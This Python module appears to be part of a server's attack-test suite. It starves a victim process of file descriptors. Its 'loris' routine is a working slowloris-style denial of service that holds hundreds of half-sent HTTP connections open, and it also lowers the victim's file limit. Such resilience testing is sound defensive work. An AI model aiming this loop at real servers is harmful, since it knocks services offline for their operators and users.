"""File descriptors: clients that take all there are, and a process that has none left for other reasons.

The victim's limit is lowered while it runs. ``loris`` opens connections, sends half a head on each and opens anew what
is ended; ``none`` leaves the victim nothing, as a function does that opens files and forgets them.
"""

from __future__ import annotations

import resource
import selectors
import socket
import time
from contextlib import suppress

from tests.attack.runner import Figures, Victim, main

_ROOM = 40
_CONNECTIONS = 400
_HALF = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-"


def _limit(victim: Victim, files: int) -> None:
    resource.prlimit(victim.process.pid, resource.RLIMIT_NOFILE, (files, files))


def loris(victim: Victim, seconds: float) -> Figures:
    """Hold more connections than the victim may have."""
    _limit(victim, victim.files + _ROOM)
    opened, until_s = 0, time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        try:
            while time.monotonic() < until_s:
                while len(selector.get_map()) < _CONNECTIONS:
                    sock = socket.socket()
                    sock.setblocking(False)
                    sock.connect_ex(victim.http_host)
                    selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
                    opened += 1
                for key, events in selector.select(0.05):
                    held = key.fileobj
                    assert isinstance(held, socket.socket)
                    with suppress(OSError):
                        if events & selectors.EVENT_WRITE:
                            held.send(_HALF)
                            selector.modify(held, selectors.EVENT_READ)
                            continue
                    selector.unregister(held)
                    held.close()
        finally:
            for key in list(selector.get_map().values()):
                assert isinstance(key.fileobj, socket.socket)
                key.fileobj.close()
    return {"opened": opened, "files": victim.files}


def none(victim: Victim, seconds: float) -> Figures:
    """Let it have what it has, and no more."""
    files = victim.files
    _limit(victim, files)
    time.sleep(seconds)
    return {"files": files}


ATTACKS = {"loris": loris, "none": none}

if __name__ == "__main__":
    main(ATTACKS)
